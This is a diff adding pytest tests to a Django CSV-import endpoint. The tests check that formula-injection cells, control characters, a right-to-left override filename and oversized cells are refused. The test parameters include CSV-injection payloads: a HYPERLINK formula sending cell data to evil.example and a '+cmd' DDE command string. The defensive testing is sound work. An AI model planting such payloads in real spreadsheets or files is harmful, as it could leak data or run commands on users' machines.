@@ -259,3 +259,118 @@ def test_a_member_of_two_initiatives_chooses_where_the_needs_go(initiative_membe
 def test_anonymous_cannot_import():
     response = client_for(None).post(URL, {"file": _csv(*GOOD_ROWS)}, format="multipart")
     assert response.status_code == 401
+
+
+# --- formulas, junk characters and oversized cells (issue 12) ---------------------------------
+
+FORMULA = "formula"  # in the English message: "… a spreadsheet would run it as a formula …"
+
+
+def _rows_of(response) -> dict[int, dict[str, list[str]]]:
+    assert response.status_code == 400, response.content
+    return {row["line"]: row["errors"] for row in response.json()["rows"]}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "row,column",
+    [
+        pytest.param(
+            '"=HYPERLINK(""http://evil.example/?""&A1,""Details"")";'
+            "clothing-winter-jacket;2;Leipzig-Grünau;M;",
+            "title",
+            id="hyperlink",
+        ),
+        pytest.param(
+            "Jacken;clothing-winter-jacket;2;\"+cmd|' /C calc'!A0\";M;", "address", id="plus-cmd"
+        ),
+        pytest.param("@SUM(1+1)*cmd;clothing-winter-jacket;2;Leipzig-Grünau;M;", "title", id="at"),
+        pytest.param("-1+1;clothing-winter-jacket;2;Leipzig-Grünau;M;", "title", id="minus"),
+        pytest.param("   =1+1;clothing-winter-jacket;2;Leipzig-Grünau;M;", "title", id="spaces"),
+        pytest.param('"\t=1+1";clothing-winter-jacket;2;Leipzig-Grünau;M;', "title", id="tab"),
+        pytest.param('"\rJacken";clothing-winter-jacket;2;Leipzig-Grünau;M;', "title", id="cr"),
+        pytest.param("Jacken;clothing-winter-jacket;2;Leipzig-Grünau;=M;", "size", id="attribute"),
+        pytest.param(
+            "Jacken;clothing-winter-jacket;2;Leipzig-Grünau;M;=TODAY()", "deadline", id="date"
+        ),
+    ],
+)
+def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_refused(
+    initiative_member, row, column, django_capture_on_commit_callbacks
+):
+    with django_capture_on_commit_callbacks() as callbacks:
+        response = _post(initiative_member, _csv(GOOD_ROWS[0], row), language="en")
+    errors = _rows_of(response)
+    assert list(errors) == [3]
+    assert list(errors[3]) == [column], errors
+    assert FORMULA in errors[3][column][0]
+    _assert_nothing_written(callbacks)
+
+
+@pytest.mark.django_db
+def test_numeric_cells_are_read_as_numbers_not_judged_as_formulas(initiative_member):
+    upload = _csv(
+        "Decken;bedding-blanket;-2;Leipzig-Grünau;;",
+        header="title;category;quantity;address;size;max_distance_km",
+    )
+    errors = _rows_of(_post(initiative_member, upload, language="en"))
+    assert list(errors[2]) == ["quantity"] and FORMULA not in errors[2]["quantity"][0]
+    upload = _csv(
+        "Decken;bedding-blanket;2;Leipzig-Grünau;;=1+1",
+        header="title;category;quantity;address;size;max_distance_km",
+    )
+    errors = _rows_of(_post(initiative_member, upload, language="en"))
+    assert list(errors[2]) == ["max_distance_km"]  # not a number, whatever else it is
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "row,column",
+    [
+        pytest.param("Jacken\u202egpj.exe;clothing-winter-jacket;2;Leipzig-Grünau;M;", "title"),
+        pytest.param("Jacken;clothing\x00;2;Leipzig-Grünau;M;", "category", id="nul-category"),
+        pytest.param("Jacken;clothing-winter-jacket;2;Leipzig\x1b[31m;M;", "address", id="escape"),
+        pytest.param("Jacken;clothing-winter-jacket;2;Leipzig-Grünau;M\x00;", "size", id="nul"),
+    ],
+)
+def test_junk_characters_in_a_cell_are_a_row_message(initiative_member, row, column):
+    errors = _rows_of(_post(initiative_member, _csv(row)))
+    assert list(errors[2]) == [column], errors
+    assert GoodsNeed.objects.count() == 0
+
+
+@pytest.mark.django_db
+def test_a_cell_over_the_csv_modules_limit_is_a_row_message_not_a_server_error(
+    initiative_member,
+):
+    huge = "x" * 131_073
+    upload = _csv(GOOD_ROWS[0], f"{huge};clothing-winter-jacket;2;Leipzig-Grünau;M;")
+    errors = _rows_of(_post(initiative_member, upload, language="en"))
+    assert list(errors) == [3] and "characters" in errors[3]["non_field_errors"][0]
+    assert GoodsNeed.objects.count() == 0
+
+
+@pytest.mark.django_db
+def test_a_cell_or_a_row_over_its_limit_is_a_row_message(initiative_member):
+    long_cell = "x" * 6_000
+    long_row = ";".join(["Jacken", "clothing-winter-jacket", "2", "Leipzig-Grünau", "M", ""])
+    long_row += ";" + ";".join(["y" * 4_000] * 6)
+    upload = _csv(
+        GOOD_ROWS[0],
+        f"Jacken;clothing-winter-jacket;2;Leipzig-Grünau;M;{long_cell}",  # line 3
+        long_row,  # line 4
+    )
+    errors = _rows_of(_post(initiative_member, upload, language="en"))
+    assert list(errors[3]) == ["deadline"] and "5000 characters" in errors[3]["deadline"][0]
+    assert list(errors[4]) == ["non_field_errors"]
+    assert "20000 characters" in errors[4]["non_field_errors"][0]
+    assert GoodsNeed.objects.count() == 0
+
+
+@pytest.mark.django_db
+def test_a_title_over_two_lines_is_kept_on_one(initiative_member):
+    response = _post(
+        initiative_member, _csv('"Zwei\nZeilen";clothing-winter-jacket;2;Leipzig-Grünau;M;')
+    )
+    assert response.status_code == 201, response.content
+    assert GoodsNeed.objects.get().title == "Zwei Zeilen"
